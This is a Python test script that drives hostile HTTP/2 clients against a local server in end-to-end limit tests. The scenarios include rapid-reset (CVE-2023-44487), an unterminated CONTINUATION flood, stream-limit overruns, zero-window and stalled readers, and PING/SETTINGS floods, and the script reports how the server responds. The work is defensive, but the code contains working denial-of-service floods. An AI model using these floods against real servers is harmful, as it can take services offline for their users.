#!/usr/bin/env python3
"""Hostile HTTP/2 clients for weir's end-to-end tests (crates/weir/tests/h2_limits.rs).

Usage: h2attack.py SCENARIO PORT [ARG]

Each scenario talks h2c (prior knowledge) to 127.0.0.1:PORT, misbehaves in one way, and
prints one JSON object on stdout saying what the server did: whether it sent GOAWAY (and
its error code) or closed, how long that took, and how much of the attack was sent first.
Every loop is bounded in count and in time, so a server that never reacts makes the
script end with "goaway": false rather than hang.

Scenarios:
  settings          report the server's SETTINGS (MAX_CONCURRENT_STREAMS, windows, ...)
  idle              connect, answer PINGs, ask nothing; wait for the server to end it
  requests N        N sequential GETs on one connection; count answers before GOAWAY
  rapid-reset N     HEADERS + RST_STREAM(CANCEL) pairs, up to N streams (CVE-2023-44487)
  continuation N    one HEADERS then up to N CONTINUATION frames, never END_HEADERS
  streams N         N requests (to /hold) opened at once, past the advertised limit
  zero-window N     N large downloads with a zero window, then stop reading at all
  ping-flood N      N PING and SETTINGS frames without reading, then wait for the end
  slow-download N   one large download (to /big) with browser-sized windows, read at
                    N KiB/s to its end (or 30 s), answering PINGs
  stalled-reader N  N large downloads (to /big) with the largest windows, then stop
                    reading for 10 s while the caller watches the server's memory

Needs the `h2` package (pinned in .ci/run).
"""

import json
import socket
import select
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

DEADLINE = 10.0  # seconds any scenario waits for the server's reaction
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTING_NAMES = {
    1: "HEADER_TABLE_SIZE",
    2: "ENABLE_PUSH",
    3: "MAX_CONCURRENT_STREAMS",
    4: "INITIAL_WINDOW_SIZE",
    5: "MAX_FRAME_SIZE",
    6: "MAX_HEADER_LIST_SIZE",
    8: "ENABLE_CONNECT_PROTOCOL",
}
REFUSED_STREAM = 7
CANCEL = 8


class Client:
    """A raw h2c connection: frames out through hyperframe, frames in parsed here.

    Parsing by hand (not with the h2 state machine) keeps every frame the server sends
    after its first GOAWAY visible, and lets a scenario break the protocol on purpose.
    """

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=DEADLINE)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.next_id = 1
        self.buf = b""
        self.start = time.monotonic()
        self.goaway = None  # (error code, last stream id, seconds)
        self.goaways = 0
        self.closed = None  # seconds
        self.settings = {}
        self.window_updates = {}  # stream id -> increments
        self.responses = 0
        self.pings = 0  # PINGs from the server (not ACKs)
        self.pings_before_goaway = 0  # a graceful GOAWAY is followed by one PING
        self.data_bytes = 0
        self.ended = 0  # streams the server ended (DATA with END_STREAM)
        self.resets = 0
        self.refused = 0
        self.answer_pings = True
        # Grant back every DATA byte received (off: a zero-window reader).
        self.grant_windows = True
        first = SettingsFrame(0)
        first.settings = settings or {}
        self.send(PREFACE + first.serialize())

    def send(self, data):
        """Sends `data`; False once the server stopped taking it or went away."""
        try:
            self.sock.sendall(data)
            return True
        except (socket.timeout, OSError):
            return False

    def stream_id(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def request(self, path="/", end_headers=True):
        sid = self.stream_id()
        frame = HeadersFrame(sid)
        frame.data = self.encoder.encode(
            [
                (":method", "GET"),
                (":scheme", "http"),
                (":authority", "h2attack.test"),
                (":path", path),
            ]
        )
        frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return sid, frame.serialize()

    def over(self):
        return self.goaway is not None or self.closed is not None

    def feed(self, data):
        if not data:
            self.closed = self.closed or time.monotonic() - self.start
            return
        buf = self.buf + data
        at = 0  # an offset, not re-slicing: a flood's answers are megabytes
        replies = []
        while len(buf) - at >= 9:
            length = int.from_bytes(buf[at : at + 3], "big")
            if len(buf) - at < 9 + length:
                break
            kind, flags = buf[at + 3], buf[at + 4]
            sid = struct.unpack(">I", buf[at + 5 : at + 9])[0] & 0x7FFFFFFF
            body = buf[at + 9 : at + 9 + length]
            at += 9 + length
            if kind == 0:
                self.data_bytes += length
                self.ended += flags & 1
            if kind == 0 and self.grant_windows and length:  # DATA
                for target in (0, sid):
                    update = WindowUpdateFrame(target)
                    update.window_increment = length
                    replies.append(update.serialize())
            elif kind == 1:  # HEADERS
                self.responses += 1
            elif kind == 3:  # RST_STREAM
                self.resets += 1
                if struct.unpack(">I", body[:4])[0] == REFUSED_STREAM:
                    self.refused += 1
            elif kind == 4 and not flags & 1:  # SETTINGS
                for i in range(0, len(body) - 5, 6):
                    key, value = struct.unpack(">HI", body[i : i + 6])
                    self.settings[SETTING_NAMES.get(key, str(key))] = value
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                replies.append(ack.serialize())
            elif kind == 6 and not flags & 1:
                self.pings += 1
                self.pings_before_goaway += self.goaway is None
            if kind == 6 and not flags & 1 and self.answer_pings:  # PING
                pong = PingFrame(0)
                pong.flags.add("ACK")
                pong.opaque_data = body
                replies.append(pong.serialize())
            elif kind == 7:  # GOAWAY
                self.goaways += 1
                last, code = struct.unpack(">II", body[:8])
                if self.goaway is None:
                    self.goaway = (code, last & 0x7FFFFFFF, time.monotonic() - self.start)
                else:
                    # The final GOAWAY of a graceful shutdown names the last stream served.
                    self.goaway = (code, last & 0x7FFFFFFF, self.goaway[2])
            elif kind == 8:  # WINDOW_UPDATE
                inc = struct.unpack(">I", body[:4])[0] & 0x7FFFFFFF
                self.window_updates[sid] = self.window_updates.get(sid, 0) + inc
        self.buf = buf[at:]
        if replies:
            self.send(b"".join(replies))

    def poll(self, wait=0.0):
        """Waits up to `wait` seconds for the server, then reads all it has sent."""
        timeout = wait
        while self.closed is None:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
            try:
                data = self.sock.recv(262144)
            except OSError:
                data = b""
            self.feed(data)
            timeout = 0.0

    def wait_end(self, deadline=DEADLINE):
        """Reads until the server closes (or `deadline` seconds)."""
        end = time.monotonic() + deadline
        while self.closed is None and time.monotonic() < end:
            self.poll(min(0.2, max(0.0, end - time.monotonic())))

    def report(self, **extra):
        out = {
            "goaway": self.goaway is not None,
            "goaways": self.goaways,
            "error_code": self.goaway[0] if self.goaway else None,
            "last_stream_id": self.goaway[1] if self.goaway else None,
            "seconds_to_goaway": round(self.goaway[2], 3) if self.goaway else None,
            "closed": self.closed is not None,
            "seconds_to_close": round(self.closed, 3) if self.closed else None,
            "responses": self.responses,
            "pings": self.pings,
            "pings_before_goaway": self.pings_before_goaway,
            "data_bytes": self.data_bytes,
            "ended": self.ended,
            "resets": self.resets,
            "refused": self.refused,
            "settings": self.settings,
            "connection_window": 65535 + self.window_updates.get(0, 0),
        }
        out.update(extra)
        print(json.dumps(out), flush=True)


def scenario_settings(port, _arg):
    c = Client(port)
    end = time.monotonic() + DEADLINE
    while "MAX_CONCURRENT_STREAMS" not in c.settings and not c.over():
        if time.monotonic() > end:
            break
        c.poll(0.2)
    c.poll(0.1)  # the connection WINDOW_UPDATE follows the SETTINGS
    c.report()


def scenario_idle(port, _arg):
    # A well-behaved client with nothing to ask: it answers every PING weir sends.
    c = Client(port)
    c.wait_end(DEADLINE)
    c.report()


def scenario_requests(port, n):
    c = Client(port)
    sent = 0
    for _ in range(n):
        if c.over():
            break
        _, frame = c.request()
        if not c.send(frame):
            break
        sent += 1
        end = time.monotonic() + DEADLINE
        want = c.responses + 1
        while c.responses < want and c.closed is None and time.monotonic() < end:
            c.poll(0.2)
    # Every answer in: a server that does not end the connection now never will.
    c.wait_end(DEADLINE if c.over() else 0.5)
    c.report(sent=sent)


def scenario_rapid_reset(port, n):
    c = Client(port)
    sent = 0
    while sent < n and not c.over():
        batch = []
        for _ in range(min(100, n - sent)):
            sid, frame = c.request()
            batch.append(frame)
            batch.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
            sent += 1
        if not c.send(b"".join(batch)):
            break
        c.poll(0.0)
    c.wait_end()
    c.report(sent=sent)


def scenario_continuation(port, n):
    c = Client(port)
    # A valid first block fragment, then CONTINUATION frames of one 8 KiB literal each
    # (never END_HEADERS): a server that buffers them all grows without bound.
    _, first = c.request(end_headers=False)
    c.send(first)
    junk = b"\x00\x05x-pad" + b"\x7f\x81\x3f" + b"a" * 8192
    sent = 0
    for _ in range(n):
        frame = ContinuationFrame(1)
        frame.data = junk
        if not c.send(frame.serialize()):
            break
        sent += 1
        if sent % 16 == 0:
            c.poll(0.0)
            if c.over():
                break
    c.wait_end()
    c.report(sent=sent, bytes_sent=sent * len(junk))


def scenario_streams(port, n):
    # Every HEADERS leaves before the server's SETTINGS are even read: the server must
    # enforce its own limit.
    c = Client(port)
    c.send(b"".join(c.request("/hold")[1] for _ in range(n)))
    # Up to 200 streams fit below the refusal threshold: hold them open a while, so the
    # backend sees every stream weir accepted.
    c.wait_end(5.0 if n > 200 else 1.0)
    c.report(sent=n)


def scenario_zero_window(port, n):
    c = Client(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    c.grant_windows = False
    c.send(b"".join(c.request("/bytes/1000000")[1] for _ in range(n)))
    # Read the response heads (answering PINGs), open no window...
    end = time.monotonic() + DEADLINE
    while c.responses < n and not c.over() and time.monotonic() < end:
        c.poll(0.2)
    heads = c.responses
    # ...then stop reading altogether. A client PING every 100 ms probes the socket (it
    # is never a reply to weir's own keep-alive PING): once weir closed, a send fails.
    stalled = time.monotonic()
    closed_after = None
    i = 0
    while time.monotonic() - stalled < DEADLINE:
        time.sleep(0.1)
        ping = PingFrame(0)
        ping.opaque_data = i.to_bytes(8, "big")
        i += 1
        if not c.send(ping.serialize()):
            closed_after = time.monotonic() - stalled
            break
    if closed_after is not None:
        c.closed = time.monotonic() - c.start
    c.report(
        sent=n,
        heads=heads,
        seconds_to_close_after_stall=round(closed_after, 3) if closed_after else None,
    )


def scenario_ping_flood(port, n):
    c = Client(port)
    c.sock.settimeout(1.0)
    sent = 0
    chunk = []
    for i in range(n):
        ping = PingFrame(0)
        ping.opaque_data = i.to_bytes(8, "big")
        chunk.append(ping.serialize())
        settings = SettingsFrame(0)
        settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + (i % 7)}
        chunk.append(settings.serialize())
        if len(chunk) >= 512 or i == n - 1:
            if not c.send(b"".join(chunk)):
                break
            sent += len(chunk)
            chunk = []
    flood_end = time.monotonic()
    c.sock.settimeout(DEADLINE)
    # Drain what the server queued (answering its PINGs) and wait for it to end the
    # connection: with no request it is idle, however many frames it got.
    c.wait_end(DEADLINE)
    c.report(sent=sent, seconds_after_flood=round(time.monotonic() - flood_end, 3))


def scenario_slow_download(port, rate_kib):
    # A browser's windows (Chrome: 6 MiB per stream, 15 MiB per connection) and a slow
    # reader: the socket buffers fill with response bytes, so a server's PING waits
    # behind seconds of them before this client can answer it.
    window = 16 << 20
    c = Client(port, {SettingsFrame.INITIAL_WINDOW_SIZE: window})
    update = WindowUpdateFrame(0)
    update.window_increment = window
    c.send(update.serialize() + c.request("/big")[1])
    start = time.monotonic()
    end = start + 30.0
    while not c.ended and c.closed is None and time.monotonic() < end:
        time.sleep(0.1)
        budget = rate_kib * 1024 // 10
        while budget > 0 and c.closed is None:
            ready, _, _ = select.select([c.sock], [], [], 0)
            if not ready:
                break
            try:
                data = c.sock.recv(min(budget, 65536))
            except OSError:
                data = b""
            c.feed(data)
            budget -= len(data)
    c.report(complete=c.ended > 0, seconds=round(time.monotonic() - start, 3))


def scenario_stalled_reader(port, n):
    # The opposite of zero-window: a window as large as HTTP/2 allows, so only weir's own
    # per-stream send buffer bounds what it queues for a client that stops reading.
    biggest = 2**31 - 1
    c = Client(port, {SettingsFrame.INITIAL_WINDOW_SIZE: biggest})
    c.grant_windows = False
    update = WindowUpdateFrame(0)
    update.window_increment = biggest - 65535
    c.send(update.serialize() + b"".join(c.request("/big")[1] for _ in range(n)))
    end = time.monotonic() + DEADLINE
    while c.responses < n and not c.over() and time.monotonic() < end:
        c.poll(0.2)
    heads = c.responses
    # Not a byte more is read: the socket buffers fill, then weir's.
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    time.sleep(DEADLINE)
    c.report(sent=n, heads=heads)


SCENARIOS = {
    "settings": scenario_settings,
    "idle": scenario_idle,
    "requests": scenario_requests,
    "rapid-reset": scenario_rapid_reset,
    "continuation": scenario_continuation,
    "streams": scenario_streams,
    "zero-window": scenario_zero_window,
    "ping-flood": scenario_ping_flood,
    "stalled-reader": scenario_stalled_reader,
    "slow-download": scenario_slow_download,
}


def main():
    if len(sys.argv) < 3 or sys.argv[1] not in SCENARIOS:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    arg = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    SCENARIOS[sys.argv[1]](int(sys.argv[2]), arg)


if __name__ == "__main__":
    main()
